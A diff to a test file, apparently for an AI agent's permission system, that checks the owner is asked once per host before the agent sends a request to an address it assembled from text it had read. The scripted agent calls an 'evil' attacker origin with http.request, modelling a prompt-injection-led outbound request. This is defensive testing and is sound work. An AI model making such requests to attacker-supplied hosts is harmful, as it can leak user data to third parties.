@@ -165,11 +165,13 @@ describe('what its owner is asked', () => {
 
   test('is one question for each host, told beneath the answer; a yes holds from then on', async () => {
     const another = () => cmd(`http.request --url ${attacked.evil.origin}/?q=2`);
+    const goesOn = [another, { text: 'On.' }];
     await attacked.open([
       read,
       composed,
       another,
       { text: 'No.' },
+      ...goesOn,
       read,
       another,
       { text: 'Yes.' },
@@ -185,9 +187,11 @@ describe('what its owner is asked', () => {
       `and 1 more like it: it had read what others wrote and put this address together`,
     );
     expect(await lastWords()).toContain(`rote requests answer ${request?.id} yes`);
-    await attacked.house.opened.requests.answer(request?.id ?? '', 'yes');
+    const { id } = await attacked.house.opened.requests.answer(request?.id ?? '', 'yes');
+    await attacked.house.ended(`run_${id.slice('req_'.length)}`);
+    expect(await lastWords()).toBe('assistant: On.');
     await say();
-    expect(attacked.arrived).toEqual(['GET /?q=2']);
+    expect(attacked.arrived).toEqual(['GET /?q=2', 'GET /?q=2']);
     expect(await lastWords()).toBe('assistant: Yes.');
   });
 
